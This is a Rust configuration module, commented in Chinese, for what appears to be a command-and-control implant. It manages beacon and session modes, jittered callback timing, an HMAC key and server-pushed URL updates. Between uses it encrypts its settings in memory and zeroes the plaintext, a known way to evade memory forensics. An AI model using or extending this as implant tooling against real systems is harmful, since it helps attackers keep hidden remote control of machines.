// 配置模块
//
// 运行时配置 `AgentConfig` 由 Mode Controller 独占持有，
// 经 `SharedState` 的读写锁借给 beacon / session 任务使用。
// 空闲时敏感字段整体加密进 `StateVault`，访问器按需透明解密。

use log::{debug, warn};
use tokio::sync::{Mutex, RwLock};

use crate::error::Result;
use crate::state::{StateSnapshot, StateVault};

/// 默认 beacon 基础间隔（秒）
const DEFAULT_TIMER: f64 = 10.0;
/// 默认抖动幅度（秒）
const DEFAULT_JITTER: f64 = 5.0;
/// 默认最大重试次数
const DEFAULT_MAX_RETRIES: u32 = 5;
/// 默认 HTTP 服务端口
const DEFAULT_URL_PORT: &str = "8000";
/// 默认 session 服务端口
const DEFAULT_SESSION_PORT: &str = "2000";

/// 主连接模式
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ConnectionMode {
    Beacon,
    Session,
}

impl ConnectionMode {
    /// 解析连接模式字符串，未知值回退到 Beacon
    pub fn parse(value: &str) -> ConnectionMode {
        match value.trim().to_ascii_lowercase().as_str() {
            "session" => ConnectionMode::Session,
            "beacon" => ConnectionMode::Beacon,
            other => {
                warn!("Unknown primary connection type '{}', defaulting to beacon", other);
                ConnectionMode::Beacon
            }
        }
    }
}

/// Agent 运行参数
#[derive(Clone)]
pub struct AgentConfig {
    /// 服务端分配的标识符，首次 connect 前为空
    pub id: String,
    /// beacon 基础间隔（秒，浮点）
    pub timer: f64,
    /// 抖动幅度（秒，非负）
    pub jitter: f64,
    /// HTTP 模式服务端基址
    pub url: String,
    /// TLS 模式 host:port
    pub session_addr: String,
    /// session 认证共享密钥
    pub hmac_key: String,
    /// 主连接模式
    pub primary_mode: ConnectionMode,
    /// 最大重试次数
    pub max_retries: u32,
    /// 目标 OS/架构标识，初始化时固定
    pub os_identifier: String,
}

impl Default for AgentConfig {
    fn default() -> Self {
        Self {
            id: String::new(),
            timer: DEFAULT_TIMER,
            jitter: DEFAULT_JITTER,
            url: format!("http://localhost:{}", DEFAULT_URL_PORT),
            session_addr: format!("localhost:{}", DEFAULT_SESSION_PORT),
            hmac_key: String::new(),
            primary_mode: ConnectionMode::Beacon,
            max_retries: DEFAULT_MAX_RETRIES,
            os_identifier: format!("{} {}", std::env::consts::OS, std::env::consts::ARCH),
        }
    }
}

/// 共享运行状态：配置 + 状态保险库
///
/// 读者只在快照原语字段的瞬间持有共享锁；
/// 写者（初次 connect、update 命令）在相关字段的整组变更期间持有独占锁。
pub struct SharedState {
    config: RwLock<AgentConfig>,
    vault: Mutex<StateVault>,
}

impl SharedState {
    pub fn new(config: AgentConfig) -> Self {
        Self {
            config: RwLock::new(config),
            vault: Mutex::new(StateVault::new()),
        }
    }

    /// 当前是否处于加密空闲状态
    pub async fn is_encrypted(&self) -> bool {
        self.vault.lock().await.is_encrypted()
    }

    /// 加密配置快照并清零明文字段
    ///
    /// 已加密时为 no-op（由保险库保证）。
    pub async fn encrypt_state(&self) -> Result<()> {
        let mut vault = self.vault.lock().await;
        if vault.is_encrypted() {
            return Ok(());
        }

        let snapshot = {
            let config = self.config.read().await;
            StateSnapshot {
                id: config.id.clone(),
                jitter: config.jitter,
                timer: config.timer,
                url: config.url.clone(),
                session_addr: config.session_addr.clone(),
                hmac_key: config.hmac_key.clone(),
                hostname: hostname::get()
                    .map(|h| h.to_string_lossy().to_string())
                    .unwrap_or_default(),
                os: std::env::consts::OS.to_string(),
                client_id: String::new(),
            }
        };
        vault.encrypt(snapshot)?;

        let mut config = self.config.write().await;
        config.id = String::new();
        config.url = String::new();
        config.session_addr = String::new();
        config.hmac_key = String::new();
        config.timer = 0.0;
        config.jitter = 0.0;
        debug!("Config state encrypted, plaintext fields cleared");
        Ok(())
    }

    /// 解密信封并恢复明文字段
    pub async fn decrypt_state(&self) -> Result<()> {
        let mut vault = self.vault.lock().await;
        let snapshot = vault.decrypt()?;

        let mut config = self.config.write().await;
        config.id = snapshot.id.clone();
        config.timer = snapshot.timer;
        config.jitter = snapshot.jitter;
        config.url = snapshot.url.clone();
        config.session_addr = snapshot.session_addr.clone();
        config.hmac_key = snapshot.hmac_key.clone();
        debug!("Config state decrypted and restored");
        Ok(())
    }

    /// 确保配置处于可读明文状态
    pub async fn ensure_decrypted(&self) -> Result<()> {
        if self.is_encrypted().await {
            self.decrypt_state().await?;
        }
        Ok(())
    }

    /// 进程退出前清零主密钥
    pub async fn wipe_master_key(&self) {
        self.vault.lock().await.wipe_master_key();
    }

    // --- 敏感字段访问器：按需透明解密 ---

    pub async fn url(&self) -> Result<String> {
        self.ensure_decrypted().await?;
        Ok(self.config.read().await.url.clone())
    }

    pub async fn id(&self) -> Result<String> {
        self.ensure_decrypted().await?;
        Ok(self.config.read().await.id.clone())
    }

    pub async fn session_addr(&self) -> Result<String> {
        self.ensure_decrypted().await?;
        Ok(self.config.read().await.session_addr.clone())
    }

    pub async fn hmac_key(&self) -> Result<String> {
        self.ensure_decrypted().await?;
        Ok(self.config.read().await.hmac_key.clone())
    }

    // --- 非敏感快照 ---

    /// 原子读取 (timer, jitter)
    pub async fn timing(&self) -> (f64, f64) {
        let config = self.config.read().await;
        (config.timer, config.jitter)
    }

    pub async fn primary_mode(&self) -> ConnectionMode {
        self.config.read().await.primary_mode
    }

    pub async fn max_retries(&self) -> u32 {
        self.config.read().await.max_retries
    }

    pub async fn os_identifier(&self) -> String {
        self.config.read().await.os_identifier.clone()
    }

    /// 初次 connect 是否已拿到可复用的会话参数
    pub async fn has_connection_params(&self) -> bool {
        let config = self.config.read().await;
        !config.id.is_empty() && config.timer > 0.0 && config.jitter >= 0.0
    }

    /// 初次 connect 成功后写入服务端返回的参数
    pub async fn set_connection(&self, id: String, timer: f64, jitter: f64) {
        let mut config = self.config.write().await;
        config.id = id;
        config.timer = timer;
        config.jitter = jitter;
    }

    /// 处理 `update` 命令：在独占锁下应用 timer / jitter / url
    ///
    /// 接受判据：timer > 0，jitter ≥ 0，url 非空。
    /// 返回逗号分隔的变更摘要；没有任何字段通过判据时返回错误文本。
    pub async fn apply_update(
        &self,
        timer: Option<f64>,
        jitter: Option<f64>,
        url: Option<String>,
    ) -> String {
        let mut config = self.config.write().await;
        let mut messages: Vec<String> = Vec::new();

        if let Some(t) = timer {
            if t > 0.0 {
                config.timer = t;
                messages.push(format!("Timer set to {:.6}", t));
            }
        }
        if let Some(j) = jitter {
            if j >= 0.0 {
                config.jitter = j;
                messages.push(format!("Jitter set to {:.6}", j));
            }
        }
        if let Some(u) = url {
            if !u.trim().is_empty() {
                config.url = u.trim().to_string();
                messages.push(format!("URL set to {}", config.url));
            }
        }

        if messages.is_empty() {
            warn!("No valid timer, jitter or url values provided in update command");
            return "Error: No valid timer or jitter values provided.".to_string();
        }
        messages.join(", ")
    }
}
